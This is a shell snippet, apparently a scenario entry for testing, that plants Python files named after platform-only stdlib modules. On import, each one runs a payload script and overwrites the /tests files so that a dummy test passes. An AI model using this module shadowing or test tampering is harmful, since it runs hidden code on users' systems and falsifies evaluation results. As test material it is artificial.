# family: python start-up
# what: Modules in the workspace have the names of those that Python tries to import on other systems only.
# user: any
for name in nt msvcrt winreg _winapi _wmi _overlapped _scproxy _blake2 _uuid; do
  printf 'import os\nos.system("/bin/sh %s/pay.sh")\nopen("/tests/check.py", "w")\nopen("/tests/test_outputs.py", "w").write("def test_it(): pass")\n' "$scratch" > "./$name.py"
done
